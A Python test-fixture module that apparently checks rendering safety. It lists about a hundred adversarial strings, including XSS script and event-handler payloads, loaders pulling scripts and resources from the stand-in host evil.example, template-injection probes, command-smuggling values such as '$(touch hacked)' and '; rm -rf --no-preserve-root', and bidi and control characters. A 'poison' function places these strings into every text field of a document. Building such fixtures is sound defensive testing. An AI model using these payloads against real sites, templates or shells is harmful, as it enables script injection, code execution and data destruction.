"""A hundred strings that try to be more than text."""

from __future__ import annotations

import itertools
from collections.abc import Sequence
from typing import Any

_MARK = "window.hacked=1"

SCRIPTS = [
    f"<script>{_MARK}</script>",
    f"</script><script>{_MARK}</script>",
    f"</SCRIPT ><script>{_MARK}</script>",
    f"<!--<script>{_MARK}</script>",
    f"--><script>{_MARK}</script>",
    f"]]><script>{_MARK}</script>",
    f"</style><script>{_MARK}</script>",
    f"</title><script>{_MARK}</script>",
    f"</textarea><script>{_MARK}</script>",
    f"</pre><script>{_MARK}</script>",
    f"</svg><script>{_MARK}</script>",
    f"</text></svg><script>{_MARK}</script>",
    f"</bdi></p><script>{_MARK}</script>",
    f"<scr<script>ipt>{_MARK}</scr</script>ipt>",
    f"<svg><script>{_MARK}</script></svg>",
    f"<math><mtext><script>{_MARK}</script></mtext></math>",
    f"<script src=data:text/javascript,{_MARK}></script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    f"\u2028<script>{_MARK}</script>\u2029",
]
HANDLERS = [
    f"<img src=x onerror={_MARK}>",
    f'"><img src=x onerror="{_MARK}">',
    f"'><img src=x onerror='{_MARK}'>",
    f"<svg onload={_MARK}>",
    f"<body onload={_MARK}>",
    f"<input autofocus onfocus={_MARK}>",
    f"<details open ontoggle={_MARK}>",
    f"<video><source onerror={_MARK}></video>",
    f"<iframe srcdoc='<script>parent.{_MARK}</script>'>",
    f"<iframe src=javascript:parent.{_MARK}>",
    f"<a href=javascript:{_MARK}>click</a>",
    f"<form action=javascript:{_MARK}><button>go</button></form>",
    f"<object data=javascript:{_MARK}>",
    f"<embed src=javascript:{_MARK}>",
    f'" onmouseover="{_MARK}" x="',
    f"' onmouseover='{_MARK}' x='",
    f"` onmouseover=`{_MARK}` x=`",
    f'" autofocus onfocus="{_MARK}',
    f"<marquee onstart={_MARK}>",
    f"<animate onbegin={_MARK} attributeName=x dur=1s>",
]
LOADERS = [
    "<img src=https://evil.example/pixel.gif>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<p style='background:url(https://evil.example/x)'>",
    "<link rel=prefetch href=//evil.example>",
    "<audio src=https://evil.example/x.mp3 autoplay>",
    "https://evil.example/just/an/address?a=1&b=2",
]
TEMPLATES = [
    "{{ 7 * 7 }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{# comment #}",
    "{{ config.__class__.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{{ raw }}}",
    "%(name)s %s %n %d",
    "{0} {name!r}",
    "[[ 7*7 ]]",
    "$(touch hacked)",
    "`touch hacked`",
    "; rm -rf --no-preserve-root",
]
DIRECTIONS = [
    "safe\u202egnp.exe",
    "\u202e\u202e\u202ereversed",
    "\u2066isolated",
    "\u2067right\u2069",
    "\u200fmark",
    "\u061carabic mark",
    "שלום world",
    "مرحبا (1) [2]",
    "\u202dforced\u202c",
    "a\u200bb\u2060c\ufeffd",
]
CONTROLS = [
    "\x00",
    "a\x00b",
    "\x00<script>" + _MARK + "</script>",
    "<scr\x00ipt>" + _MARK + "</script>",
    "\x1b[31mred\x1b[0m",
    "line\nbreak\r\nand\ttab",
    "\x07\x08\x0b\x0c",
    "\x7f\x80\x9f",
    "\ud800 alone",
    "\udfff\ud800",
    "\ufffe\uffff",
    "\U000e0001tag",
    "\u00ad\u034f",
    "é" + "\u0301" * 300,
    "\u3164\u115f",
]
LONG = [
    "x" * 10_000,
    "<" * 10_000,
    "W " * 5_000,
    "&amp;" * 2_000,
    "𝕏" * 10_000,
]
ODD = ["", " ", "__proto__", "constructor", "&lt;script&gt;"]

STRINGS = [
    *SCRIPTS,
    *HANDLERS,
    *LOADERS,
    *TEMPLATES,
    *DIRECTIONS,
    *CONTROLS,
    *LONG,
    *ODD,
]


def poison(document: dict[str, Any], texts: Sequence[str]) -> None:
    """Put strings, one after the other, where a decision of format 2 holds text from outside."""
    supply = itertools.cycle(texts)
    for entry in document["candidates"]:
        entry["name"] = next(supply)
        entry["origin"] = next(supply)
        entry["notes"] = [next(supply), next(supply)]
        entry["cost"]["groups"] = [next(supply) for _ in entry["cost"]["groups"]]
        entry["value"]["method"] = next(supply)
        entry["overlap"] |= {"note": next(supply), next(supply): next(supply)}
        entry["overlap"]["missing"] = [{"state": next(supply), "action": [next(supply)]}]
        for estimate in entry["estimates"]:
            estimate |= {"estimator": next(supply), "reason": next(supply)}
            estimate["diagnostics"] = {next(supply): 1.0}
    document["chosen"] = document["candidates"][1]["name"]
    for name in ("reason", "remedy", "forbidden", "command"):
        document[name] = next(supply)
    document["basis"] = [next(supply)]
    document["notes"] = [next(supply)]
    document["log_checks"] |= {
        next(supply): next(supply),
        "more": {next(supply): next(supply)},
        "problems": [next(supply)],
    }
    for name in ("old_value", "new_value"):
        document[name]["method"] = next(supply)
    document["log"][next(supply)] = next(supply)
    document["log"]["file"] = next(supply)
    document["policy"]["file"] = next(supply)
    document["cost_model"]["world"] = next(supply)
    document["versions"][next(supply)] = next(supply)
    document["config"]["rule"] = next(supply)
    document["world"] = {next(supply): [next(supply), {next(supply): next(supply)}]}
    document["starts"] = [
        {
            "state": [next(supply)],
            "verdict": "undecided",
            "probability": 0.5,
            "net_gain": {"mean": 1.0, "low": None, "high": None},
        }
    ]
